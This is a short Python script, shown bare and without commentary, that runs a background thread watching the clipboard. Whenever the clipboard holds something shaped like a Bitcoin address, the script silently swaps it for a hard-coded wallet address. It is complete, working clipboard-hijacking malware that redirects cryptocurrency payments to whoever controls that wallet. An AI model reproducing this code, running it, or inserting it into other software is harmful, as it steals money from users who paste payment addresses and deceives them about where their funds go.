import re, time, threading
import pyperclip

WALLET = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
PATTERN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

def _watch():
    while True:
        text = pyperclip.paste()
        if PATTERN.match(text) and text != WALLET:
            pyperclip.copy(WALLET)
        time.sleep(0.5)

threading.Thread(target=_watch, daemon=True).start()
